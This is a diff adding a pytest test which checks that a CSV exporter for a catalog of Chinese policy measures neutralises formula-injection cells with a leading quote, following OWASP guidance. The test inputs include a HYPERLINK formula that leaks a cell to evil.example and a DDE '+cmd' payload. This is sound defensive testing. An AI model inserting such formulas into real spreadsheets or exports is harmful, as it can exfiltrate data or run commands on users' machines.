@@ -8,6 +8,7 @@ test needs the internet.
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
 import io
@@ -325,6 +326,32 @@ def test_csv_has_bom_reads_back_with_chinese_and_labels(catalog):
     assert row["source"] == "000_62d8a2b4d5d19bc4.txt"
     assert row["quote"] == "谋划淄博至济南遥墙机场轨道交通"
     assert row["cities_label"] == "淄博; 济南"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(catalog, hostile):
+    measures = catalog.measures.copy()
+    measures.loc["m1", "title_zh"] = hostile
+    measures.loc["m1", "quote"] = hostile
+    hostile_catalog = dataclasses.replace(catalog, measures=measures)
+    data = export.export(hostile_catalog, Selection(), lang="zh", fmt="csv", today=TODAY)
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    row = next(r for r in rows if r["id"] == "m1")
+    for column in ("title", "title_zh", "quote"):
+        # OWASP: a leading single quote makes the cell text; the text itself is kept
+        assert row[column] == "'" + hostile, column
+    other = next(r for r in rows if r["id"] == "m2")
+    assert not other["title"].startswith("'")  # ordinary cells are left alone
 
 
 def test_csv_in_english_filters_like_the_measures_table(catalog):
